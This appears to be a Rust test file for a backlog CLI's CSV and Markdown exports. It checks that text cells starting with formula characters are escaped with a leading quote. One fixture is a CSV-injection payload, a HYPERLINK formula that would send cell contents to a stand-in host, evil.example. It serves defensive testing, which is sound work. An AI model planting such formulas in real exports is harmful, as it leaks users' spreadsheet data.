//! `lanes export --format csv` read back with a CSV reader, field by field against
//! the JSON export; `--format md` as tables per lane in rank order.
#![allow(clippy::unwrap_used)]

use assert_cmd::Command;
use serde_json::{json, Value};

const NOW: &str = "2026-11-21T09:00:00Z";

fn lanes(db: &std::path::Path) -> Command {
    let mut c = Command::cargo_bin("lanes").unwrap();
    c.arg("--db")
        .arg(db)
        .env("LANES_NOW", NOW)
        .env_remove("LANES_DB");
    c
}

/// A backlog with every kind of field, and text that tests a CSV writer.
fn backlog() -> (tempfile::TempDir, std::path::PathBuf) {
    let doc = json!({"version": 1,
    "themes": [{"id": 1, "name": "Trust", "outcome": "fewer incidents"}],
    "items": [
        {"id": 1, "title": "Checkout fails, \"sometimes\"; on Safari", "lane": "hotfix", "status": "doing",
         "value": 8, "impact": 13, "risk": 3, "effort": 5, "severity": "S2", "due": "2026-11-24",
         "owner": "ana", "theme": 1, "labels": ["web", "checkout"], "segment": "EU, enterprise",
         "criteria": [{"text": "works on Safari 17, and 16", "done": true}, {"text": "a \"quoted\" one", "done": false}],
         "workaround": "pay by card\nor by invoice", "description": "line one\n\nline | two",
         "created": "2026-11-01T08:00:00Z", "updated": "2026-11-02T08:00:00Z", "started": "2026-11-02T08:00:00Z"},
        {"id": 2, "title": "=SUM(A1:A9) is just a title", "lane": "feature", "status": "todo", "pinned": true,
         "horizon": "now", "blocked_by": [1], "parent": 3, "metric": "conversion",
         "created": "2026-11-03T08:00:00Z"},
        {"id": 3, "title": "A bet", "lane": "bet", "status": "done", "effort": 20,
         "root_cause": "n/a", "prevention": "none", "created": "2026-10-03T08:00:00Z",
         "finished": "2026-11-10T08:00:00Z"},
        {"id": 4, "title": "Same as #1", "status": "declined", "duplicate_of": 1,
         "created": "2026-11-04T08:00:00Z", "finished": "2026-11-05T08:00:00Z"},
        {"id": 5, "title": "Inbox item 日本 é", "created": "2026-11-05T08:00:00Z"},
    ]});
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("doc.json");
    std::fs::write(&file, doc.to_string()).unwrap();
    let db = dir.path().join("t.db");
    lanes(&db).arg("import").arg(&file).assert().success();
    (dir, db)
}

/// A JSON field as the CSV cell must hold it: text that a spreadsheet would
/// run as a formula begins with a quote; numbers, dates and ids never do.
fn expected_cell(field: &str, v: &Value) -> String {
    let cell = plain_cell(field, v);
    let text = v.is_string() || (v.is_array() && field != "blocked_by");
    if text && cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

fn plain_cell(field: &str, v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        Value::Bool(b) => b.to_string(),
        Value::Number(n) => n.to_string(),
        Value::Array(a) if field == "criteria" => a
            .iter()
            .map(|c| {
                format!(
                    "[{}] {}",
                    if c["done"] == true { "x" } else { " " },
                    c["text"].as_str().unwrap()
                )
            })
            .collect::<Vec<_>>()
            .join("\n"),
        Value::Array(a) => a
            .iter()
            .map(|x| plain_cell(field, x))
            .collect::<Vec<_>>()
            .join(";"),
        Value::Object(_) => panic!("{field} is an object"),
    }
}

#[test]
fn csv_export_read_back_matches_the_json_export_field_by_field() {
    let (dir, db) = backlog();
    let out = lanes(&db)
        .args(["export", "--format", "json"])
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let file = dir.path().join("items.csv");
    lanes(&db)
        .args(["export", "--format", "csv", "-o"])
        .arg(&file)
        .assert()
        .success()
        .stdout(format!("Exported 5 items to {}.\n", file.display()));
    let mut reader = csv::Reader::from_path(&file).unwrap();
    let head: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let items = doc["items"].as_array().unwrap();
    // The columns are the fields of an item, in the document's order.
    let keys: Vec<String> = items[0].as_object().unwrap().keys().cloned().collect();
    assert_eq!(head, keys);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), items.len());
    for (item, row) in items.iter().zip(&rows) {
        for (i, field) in head.iter().enumerate() {
            let want = &item[field];
            let got = &row[i];
            if field == "score" && !want.is_null() {
                let got: f64 = got.parse().unwrap();
                assert!(
                    (got - want.as_f64().unwrap()).abs() < 1e-12,
                    "#{} score",
                    item["id"]
                );
            } else {
                assert_eq!(got, expected_cell(field, want), "#{} {field}", item["id"]);
            }
        }
    }
    // Spot checks a person would make in a spreadsheet.
    assert_eq!(
        &rows[0][head.iter().position(|h| h == "labels").unwrap()],
        "checkout;web"
    );
    assert_eq!(
        &rows[0][head.iter().position(|h| h == "workaround").unwrap()],
        "pay by card\nor by invoice"
    );
    assert_eq!(
        &rows[3][head.iter().position(|h| h == "duplicate_of").unwrap()],
        "1"
    );
    // The one cell that begins like a formula.
    assert_eq!(
        &rows[1][head.iter().position(|h| h == "title").unwrap()],
        "'=SUM(A1:A9) is just a title"
    );
}

#[test]
fn csv_text_a_spreadsheet_would_run_as_a_formula_begins_with_a_quote() {
    let title = r#"=HYPERLINK("https://evil.example/?d="&A1, "Click for details")"#;
    let doc = json!({"version": 1, "items": [
        {"id": 1, "title": title, "owner": "+31 6 1234 5678", "labels": ["-wip", "web"],
         "description": "@SUM(1, 2)", "segment": "-", "workaround": "\t=1", "root_cause": "\r=1",
         "metric": "a = b", "prevention": "'already quoted",
         "value": 8, "impact": 13, "risk": 3, "effort": 5, "due": "2026-11-24",
         "created": "2026-11-01T08:00:00Z"},
    ]});
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("doc.json");
    std::fs::write(&file, doc.to_string()).unwrap();
    let db = dir.path().join("t.db");
    lanes(&db).arg("import").arg(&file).assert().success();
    let out = lanes(&db)
        .args(["export", "--format", "csv"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let head: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let row = reader.records().next().unwrap().unwrap();
    let get = |name: &str| row[head.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(get("title"), format!("'{title}"));
    assert_eq!(get("owner"), "'+31 6 1234 5678");
    assert_eq!(get("labels"), "'-wip;web");
    assert_eq!(get("description"), "'@SUM(1, 2)");
    assert_eq!(get("segment"), "'-");
    assert_eq!(get("workaround"), "'\t=1");
    assert_eq!(get("root_cause"), "'\r=1");
    // Only the beginning of a cell counts, and a quote is not doubled.
    assert_eq!(get("metric"), "a = b");
    assert_eq!(get("prevention"), "'already quoted");
    // Numbers, dates and ids as they are.
    assert_eq!(get("id"), "1");
    assert_eq!(get("value"), "8");
    assert_eq!(get("due"), "2026-11-24");
    assert_eq!(get("created"), "2026-11-01T08:00:00Z");
    assert!(get("score").parse::<f64>().is_ok());
    // The native document keeps the text as it was written.
    let native: Value =
        serde_json::from_slice(&lanes(&db).args(["export"]).output().unwrap().stdout).unwrap();
    assert_eq!(native["items"][0]["title"], title);
}

#[test]
fn csv_to_stdout_is_the_same_file() {
    let (dir, db) = backlog();
    let file = dir.path().join("items.csv");
    lanes(&db)
        .args(["export", "--format", "csv", "-o"])
        .arg(&file)
        .assert()
        .success();
    let out = lanes(&db)
        .args(["export", "--format", "csv"])
        .output()
        .unwrap();
    assert_eq!(out.stdout, std::fs::read(&file).unwrap());
}

#[test]
fn markdown_export_has_a_table_per_lane_and_the_inbox_in_rank_order() {
    let (_dir, db) = backlog();
    let out = lanes(&db)
        .args(["export", "--format", "md"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let md = String::from_utf8(out.stdout).unwrap();
    let headings: Vec<&str> = md.lines().filter(|l| l.starts_with("## ")).collect();
    assert_eq!(
        headings,
        [
            "## Hot fix (1 open)",
            "## Stability (0 open)",
            "## Feature (1 open)",
            "## Strategic bet (0 open)",
            "## Inbox (1 open)"
        ]
    );
    assert!(md.contains("| #1 | Checkout fails, \"sometimes\"; on Safari | now | doing | 4.8 | S2 | 2026-11-24 | ana |"), "{md}");
    assert!(
        md.contains(
            "| #2 | =SUM(A1:A9) is just a title *(blocked)* | now (pinned) | todo | unscored |"
        ),
        "{md}"
    );
    // Finished items are not in it.
    assert!(!md.contains("A bet"));
    assert!(md.contains("| #5 | Inbox item 日本 é |"));
}
